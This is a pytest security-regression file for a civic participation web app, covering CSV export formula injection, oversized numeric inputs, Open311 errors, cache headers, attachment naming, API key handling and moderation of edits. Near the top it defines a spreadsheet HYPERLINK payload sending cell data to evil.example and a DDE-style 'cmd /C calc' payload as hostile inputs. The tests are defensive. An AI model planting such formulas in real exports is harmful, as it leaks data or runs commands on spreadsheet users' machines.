"""Findings of the security review: each test shows the defect it closes."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from participa.csv_export import FORMULA_STARTS
from participa.extensions import db
from participa.models import User

from conftest import login_with_code

pytest_plugins = ["factories_consultations"]

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Ver")'
HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


# --- CSV exports: formula injection ---------------------------------------------------------

def _csv_rules(app):
    return sorted((rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")),
                  key=lambda rule: rule.rule)


@pytest.fixture
def hostile_data(app, people, institutions, make_consultation):
    """A closed consultation with a question and a comment, an institution, a person and
    audit entries, all with text that a spreadsheet would run as a formula."""
    from participa.ballots import service as ballots
    from participa.consultations import comments
    from participa.models import Stance
    from participa.models.audit import record

    from factories_consultations import shift

    consultation = make_consultation(phase="draft")
    ballots.add_question(people["official_msp"], consultation, text=HOSTILE, max_choices=1,
                         options_text=f"{HOSTILE}\n-1 No")
    db.session.commit()
    shift(consultation, opens_days=-1, closes_days=10)
    comments.add_comment(people["citizen"], consultation, body=HOSTILE, stance=Stance.FOR)
    db.session.commit()
    shift(consultation, opens_days=-30, closes_days=-2)
    people["admin_mdt"].name = HOSTILE
    institutions["MDT"].name = HOSTILE
    for institution in institutions.values():
        record("moderation.hidden", actor=people["admin_mdt"], institution=institution,
               reason=HOSTILE_REASON)
    db.session.commit()
    return {"consultation_id": consultation.id, "acronym": "MDT",
            "slug": "uso-contacto-ciudadano", "year": 2026}


def test_every_csv_route_is_known(app):
    rules = _csv_rules(app)
    assert len(rules) >= 6
    for rule in rules:
        assert rule.arguments <= {"consultation_id", "acronym", "slug", "year"}, rule.rule


def _csv_rule_ids():
    from conftest import make_app
    import tempfile
    from pathlib import Path

    app = make_app(Path(tempfile.mkdtemp()))
    return [rule.rule for rule in _csv_rules(app)]


@pytest.mark.parametrize("path", _csv_rule_ids())
def test_csv_exports_neutralise_formulas(app, client, people, hostile_data, path):
    login_with_code(client, people["platform_admin"])
    url = path
    for name, value in hostile_data.items():
        url = url.replace(f"<int:{name}>", str(value)).replace(f"<{name}>", str(value))
    response = client.get(url)
    assert response.status_code == 200, url
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True).lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == [], url
    if "registro" in url or "comentarios" in url or "resultados" in url:
        assert "'" + HOSTILE in cells or "'" + HOSTILE_REASON in cells, url


# --- participa demo: development and testing only -------------------------------------------

@pytest.mark.parametrize("env_name", ["production", "staging"])
def test_demo_refuses_outside_development_and_testing(app, env_name):
    from participa import demo

    app.config["ENV_NAME"] = env_name
    result = app.test_cli_runner().invoke(args=["participa", "demo"])
    assert result.exit_code != 0
    assert "PARTICIPA_ENV" in result.output
    assert not demo.is_loaded()
    assert db.session.scalar(select(User.id).limit(1)) is None


def test_demo_still_loads_in_development(app):
    from participa import demo

    app.config["ENV_NAME"] = "development"
    result = app.test_cli_runner().invoke(args=["participa", "demo"])
    assert result.exit_code == 0, result.output
    assert demo.is_loaded()


# --- integers from outside: bounded in one place ---------------------------------------------

HUGE = "99999999999999999999999"


@pytest.mark.parametrize("path", [
    f"/consultas/{HUGE}",
    f"/consultas/{HUGE}/comentarios.csv",
    "/consultas/%C2%B2",
    f"/consultas?pagina={HUGE}",
    f"/casos/nuevo?pagina={HUGE}",
    f"/propuestas/?pagina={HUGE}",
])
def test_huge_numbers_in_the_address_are_not_found(client, path):
    assert client.get(path).status_code == 404


def test_odd_page_numbers_fall_back_to_the_first_page(client):
    for value in ("abc", "-3", "²", "0"):
        assert client.get(f"/consultas?pagina={value}").status_code == 200


@pytest.mark.parametrize("value", [HUGE, "²", "٣"])
def test_a_category_filter_that_is_not_a_category_is_a_form_error(client, people,
                                                                   institutions, value):
    from factories_cases import make_category

    make_category(institutions["MSP"])
    login_with_code(client, people["official_msp"])
    response = client.get("/casos/institucion/MSP", query_string={"categoria": value})
    assert response.status_code == 200


@pytest.mark.parametrize("value", [HUGE, "²"])
def test_a_huge_category_on_the_case_form_is_a_form_error(client, people, institutions,
                                                          value):
    from factories_cases import make_category
    from participa.models import Case

    make_category(institutions["MSP"])
    login_with_code(client, people["citizen"])
    response = client.post("/casos/nuevo/MSP", data={
        "type": "complaint", "category": value, "subject": "Demora en la cita",
        "description": "Solicité una cita hace dos meses.", "province": ""})
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert "Demora en la cita" in page and "Solicité una cita hace dos meses." in page
    assert db.session.scalar(select(Case.id).limit(1)) is None


OPEN311 = "/open311/v2"


@pytest.mark.parametrize("path", [
    f"{OPEN311}/requests/%C2%B2.json",
    f"{OPEN311}/requests/{HUGE}.json",
    f"{OPEN311}/services/%C2%B2.json",
    f"{OPEN311}/services/{HUGE}.json",
    f"{OPEN311}/nada.json",
    f"{OPEN311}/services.html",
])
def test_open311_not_found_answers_in_json(client, path):
    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "application/json"
    body = response.get_json()
    assert body[0]["code"] == 404 and body[0]["description"]


@pytest.mark.parametrize("path", [
    f"{OPEN311}/requests/%C2%B2.xml",
    f"{OPEN311}/requests/{HUGE}.xml",
    f"{OPEN311}/nada.xml",
])
def test_open311_not_found_answers_in_xml(client, path):
    from xml.etree import ElementTree

    response = client.get(path)
    assert response.status_code == 404
    assert response.mimetype == "text/xml"
    root = ElementTree.fromstring(response.data)
    assert root.tag == "errors" and root.find("error/code").text == "404"


def test_open311_wrong_method_and_bad_ids_answer_in_its_format(client):
    response = client.put(f"{OPEN311}/requests.json")
    assert response.status_code == 405
    assert response.get_json()[0]["code"] == 405
    response = client.get(f"{OPEN311}/requests.json",
                          query_string={"service_request_id": f"²,{HUGE},7",
                                        "service_code": f"²,{HUGE}"})
    assert response.status_code == 200 and response.get_json() == []
    response = client.get(f"{OPEN311}/requests.json",
                          query_string={"service_code": f"²,{HUGE}"})
    assert response.status_code == 200 and response.get_json() == []


# --- no-store on personal pages, attachment names, Open311 keys -----------------------------

def _no_store(response) -> bool:
    return "no-store" in response.headers.get("Cache-Control", "")


def test_pages_for_a_signed_in_person_are_never_stored(client, people):
    assert not _no_store(client.get("/"))
    assert "Cookie" in client.get("/").headers.get("Vary", "")
    login_with_code(client, people["citizen"])
    for path in ("/", "/consultas", "/cuenta/mis-datos", "/cuenta/mis-datos.json",
                 "/casos/mis-casos"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert _no_store(response), path


def test_case_pages_are_never_stored_even_without_an_account(client, people, institutions,
                                                             tmp_path):
    from factories_cases import allow_anonymous, make_case, make_category

    category = make_category(institutions["MSP"])
    allow_anonymous(institutions["MSP"])
    case = make_case(None, institutions["MSP"], category, contact_email="vecino@example.ec")
    response = client.get(f"/casos/{case.code}")
    assert _no_store(response)
    assert _no_store(client.get("/casos/nuevo/MSP"))


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


@pytest.mark.parametrize("uploaded, stored", [
    ("pagina.html", "pagina.png"), ("foto.exe.jpg", "foto_exe.png"), ("imagen.PNG", "imagen.png"),
])
def test_an_attachment_is_named_after_its_detected_type(app, client, people, institutions,
                                                        tmp_path, uploaded, stored):
    from io import BytesIO

    from factories_cases import make_category
    from participa.models import Case

    app.config["CASE_ATTACHMENT_DIR"] = str(tmp_path / "adjuntos")
    category = make_category(institutions["MSP"])
    login_with_code(client, people["citizen"])
    response = client.post("/casos/nuevo/MSP", content_type="multipart/form-data", data={
        "type": "complaint", "category": str(category.id), "subject": "Demora",
        "description": "Llevo dos meses esperando.", "province": "",
        "attachments": [(BytesIO(PNG), uploaded)]})
    assert response.status_code == 302
    case = db.session.scalar(select(Case))
    attachment = case.attachments[0]
    assert attachment.filename == stored
    download = client.get(f"/casos/{case.code}/adjuntos/{attachment.id}")
    assert download.mimetype == "image/png"
    assert stored in download.headers["Content-Disposition"]
    assert _no_store(download)


@pytest.fixture
def open311_api(institutions):
    from factories_cases import allow_anonymous, make_category
    from participa.open311.keys import issue_key

    category = make_category(institutions["MSP"], "Medicamentos")
    allow_anonymous(institutions["MSP"])
    _client, key = issue_key(None, "App Quito")
    _other, other_key = issue_key(None, "App Guayaquil")
    db.session.commit()
    return {"category": category, "key": key, "other_key": other_key}


def _open311_form(api, key):
    return {"api_key": key, "service_code": str(api["category"].id), "lat": "-0.22",
            "long": "-78.51", "email": "vecina@example.ec",
            "description": "Falta paracetamol en el centro de salud."}


def test_open311_refuses_a_key_in_the_address(client, open311_api):
    from participa.models import Case

    data = _open311_form(open311_api, open311_api["key"])
    key = data.pop("api_key")
    response = client.post(f"{OPEN311}/requests.json", query_string={"api_key": key}, data=data)
    assert response.status_code == 400
    assert "api_key" in response.get_json()[0]["description"]
    # Not even with a key in the body as well: the address one is in logs and histories.
    response = client.post(f"{OPEN311}/requests.xml", query_string={"api_key": key},
                           data={**data, "api_key": key})
    assert response.status_code == 400 and response.mimetype == "text/xml"
    assert db.session.scalar(select(Case.id).limit(1)) is None
    response = client.post(f"{OPEN311}/requests.json", data={**data, "api_key": key})
    assert response.status_code == 201


def test_open311_posts_are_limited_per_key(app, client, open311_api):
    app.config["OPEN311_KEY_LIMIT"] = "2 per hour"
    first = client.post(f"{OPEN311}/requests.json",
                        data=_open311_form(open311_api, open311_api["key"]))
    assert first.status_code == 201, first.get_data(as_text=True)
    statuses = [client.post(f"{OPEN311}/requests.json",
                            data=_open311_form(open311_api, open311_api["key"])).status_code
                for _ in range(2)]
    assert statuses == [201, 429]
    response = client.post(f"{OPEN311}/requests.json",
                           data=_open311_form(open311_api, open311_api["key"]))
    assert response.status_code == 429 and response.get_json()[0]["code"] == 429
    other = client.post(f"{OPEN311}/requests.json",
                        data=_open311_form(open311_api, open311_api["other_key"]))
    assert other.status_code == 201


# --- edits under pre-moderation: the approved text stays public until the edit is decided ---

def _premoderated_comment(people, consultation, text):
    from participa.consultations import comments
    from participa.models import ContentKind, Stance
    from participa.moderation import service as moderation

    consultation.premoderate_comments = True
    comment = comments.add_comment(people["citizen"], consultation, body=text,
                                   stance=Stance.FOR)
    db.session.flush()
    item = moderation.item_of_content(ContentKind.COMMENT, comment.id)
    moderation.approve(people["moderator_msp"], item, item.revision)
    db.session.commit()
    return comment, item


@pytest.mark.parametrize("decision", ["approve", "reject_edit"])
def test_an_edited_comment_waits_for_the_moderators(app, client, people, make_consultation,
                                                    decision):
    from participa.models import ReviewState

    consultation = make_consultation()
    comment, item = _premoderated_comment(people, consultation, "Texto aprobado del comentario.")
    page = f"/consultas/{consultation.id}"
    login_with_code(client, people["citizen"])
    response = client.post(f"{page}/comentarios/{comment.id}/editar",
                           data={"body": "Texto cambiado después de aprobarlo."})
    assert response.status_code == 302
    public = app.test_client().get(page).get_data(as_text=True)
    assert "Texto aprobado del comentario." in public
    assert "Texto cambiado después de aprobarlo." not in public
    own = client.get(page).get_data(as_text=True)
    assert "Texto cambiado después de aprobarlo." in own  # the author sees the edit, pending
    db.session.refresh(item)
    assert item.review == ReviewState.PENDING

    moderator = app.test_client()
    login_with_code(moderator, people["moderator_msp"])
    queue = moderator.get("/moderacion/MSP").get_data(as_text=True)
    assert "Texto cambiado después de aprobarlo." in queue
    response = moderator.post(f"/moderacion/MSP/elementos/{item.id}/{decision}",
                              data={"revision": item.revision})
    assert response.status_code == 302
    public = app.test_client().get(page).get_data(as_text=True)
    if decision == "approve":
        assert "Texto cambiado después de aprobarlo." in public
        assert "Texto aprobado del comentario." not in public
    else:
        assert "Texto aprobado del comentario." in public
        assert "Texto cambiado después de aprobarlo." not in public
    db.session.refresh(comment)
    assert comment.pending_edit is None


@pytest.mark.parametrize("decision", ["publicar", "rechazar-edicion"])
def test_an_edited_proposal_waits_for_the_institution(app, client, people, institutions,
                                                      decision):
    from participa.models import ProposalTopic
    from participa.proposals import service as proposals

    settings = proposals.settings_for(institutions["MSP"])
    settings.premoderate_proposals = True
    db.session.add(settings)
    proposal = proposals.submit_proposal(
        people["citizen"], institutions["MSP"], title="Título aprobado",
        summary="Resumen aprobado.", body="Texto aprobado.", topic=ProposalTopic.HEALTH)
    proposals.publish_proposal(people["official_msp"], proposal)
    db.session.commit()
    page = f"/propuestas/{proposal.id}"
    login_with_code(client, people["citizen"])
    response = client.post(f"{page}/editar", data={
        "title": "Título cambiado", "summary": "Resumen cambiado.", "body": "Texto cambiado.",
        "topic": "health"})
    assert response.status_code == 302
    public = app.test_client().get(page).get_data(as_text=True)
    assert "Título aprobado" in public and "Título cambiado" not in public
    assert "Título cambiado" in client.get(page).get_data(as_text=True)

    reviewer = app.test_client()
    login_with_code(reviewer, people["official_msp"])
    assert "Título cambiado" in reviewer.get("/propuestas/pendientes").get_data(as_text=True)
    assert reviewer.post(f"{page}/{decision}").status_code == 302
    public = app.test_client().get(page).get_data(as_text=True)
    if decision == "publicar":
        assert "Título cambiado" in public and "Título aprobado" not in public
    else:
        assert "Título aprobado" in public and "Título cambiado" not in public
    db.session.refresh(proposal)
    assert proposal.pending_edit is None
